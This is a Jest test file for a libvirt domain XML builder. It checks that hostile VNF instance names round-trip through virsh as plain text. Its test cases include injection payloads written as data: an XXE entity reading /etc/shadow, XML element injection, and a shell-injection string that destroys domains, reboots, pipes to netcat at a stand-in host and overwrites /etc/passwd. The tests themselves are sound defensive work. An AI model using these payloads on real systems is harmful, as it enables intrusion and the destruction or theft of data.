import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { buildDomainXml, type DomainSpec } from '../../libs/libvirt/src/index.js';
import { sampleDomainSpec } from '../../libs/libvirt/src/testing/domain-fixture.js';
import { find, type ParsedElement, parseStrictXml, structure, textOf } from '../../libs/libvirt/src/testing/strict-xml.js';
import { assertDomainName, assertHostPath, checkFreeText } from '../../libs/naming/src/index.js';
import { hostileString } from '../../libs/naming/src/testing/hostile.js';

/**
 * Generated domains go through libvirt's own parser (the built-in test:/// driver, no VMs) and
 * come back from dumpxml: hostile VNF instance names must come back as the same text, and the
 * domain must have exactly the devices we asked for.
 */
const run = promisify(execFile);
let dir: string;
let count = 0;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'vim-domain-xml-'));
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/**
 * test:/// starts from a fresh state in every virsh process, so define and dumpxml run in one.
 * The single argv element is virsh's own command language, not a shell: only a checked path
 * (mkdtemp names are [A-Za-z0-9]) and a checked domain name go into it.
 */
async function defineAndDump(spec: DomainSpec): Promise<ParsedElement> {
  const file = assertHostPath(join(dir, `domain-${count++}.xml`));
  await writeFile(file, buildDomainXml(spec));
  const { stdout } = await run('virsh', ['-c', 'test:///default', `define ${file}; dumpxml ${assertDomainName(spec.name)}`]);
  const xml = stdout.slice(stdout.indexOf('<domain'), stdout.lastIndexOf('</domain>') + '</domain>'.length);
  return parseStrictXml(xml);
}

const withName = (name: string) => sampleDomainSpec({ metadata: { ...sampleDomainSpec().metadata, vnfInstanceName: name, vduId: name } });

describe('domain XML through libvirt (test:///default)', () => {
  let benign: ParsedElement;

  beforeAll(async () => {
    benign = await defineAndDump(sampleDomainSpec());
  });

  test('libvirt keeps what we generated', () => {
    const spec = sampleDomainSpec();
    expect(textOf(find(benign, 'name')[0])).toBe(spec.name);
    expect(textOf(find(benign, 'uuid')[0])).toBe(spec.uuid);
    expect(textOf(find(benign, 'title')[0])).toBe(spec.metadata.vnfInstanceName);
    expect(find(benign, 'metadata', 'vim:instance', 'vim:vdu')[0].attributes).toEqual({ id: 'fw-vdu', instance: spec.uuid });
    expect(find(benign, 'cputune', 'vcpupin').map((e) => e.attributes.cpuset)).toEqual(['4', '5']);
    expect(find(benign, 'memoryBacking', 'hugepages', 'page')[0].attributes).toMatchObject({ size: '2048', nodeset: '0' });
    expect(find(benign, 'devices', 'interface').map((e) => e.attributes.type)).toEqual(['vhostuser', 'hostdev']);
    expect(find(benign, 'devices', 'interface', 'vlan', 'tag')[0].attributes.id).toBe('100');
  });

  test.each([
    "</description><devices><hostdev mode='subsystem' type='pci'><source><address bus='0x00'/></source></hostdev>",
    '</title></domain><domain type="kvm"><name>evil</name>',
    ']]><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>&xxe; &amp; &#0;',
    "'; virsh destroy --all; $(reboot) `id` | nc evil 1 && echo >/etc/passwd",
    '日本語 🔥 ﷽ e\u0301',
  ])('a hostile name comes back verbatim as text: %s', async (name) => {
    const root = await defineAndDump(withName(name));
    expect(textOf(find(root, 'title')[0])).toBe(name);
    expect(textOf(find(root, 'metadata', 'vim:instance', 'vim:vnf-instance')[0])).toBe(name);
    expect(find(root, 'metadata', 'vim:instance', 'vim:vdu')[0].attributes.id).toBe(name);
    expect(structure(root)).toEqual(structure(benign));
    expect(find(root, 'devices', 'hostdev')).toHaveLength(0);
    expect(find(root, 'name').map(textOf)).toEqual([sampleDomainSpec().name]);
  });

  test('generated hostile names that pass the free-text rule round-trip through libvirt', async () => {
    const names = fc.sample(hostileString.filter((s) => checkFreeText(s).ok), { numRuns: 25, seed: 7 });
    for (const name of names) {
      const root = await defineAndDump(withName(name));
      expect(textOf(find(root, 'title')[0])).toBe(name);
      expect(find(root, 'metadata', 'vim:instance', 'vim:vdu')[0].attributes.id).toBe(name);
      expect(structure(root)).toEqual(structure(benign));
    }
  });
});
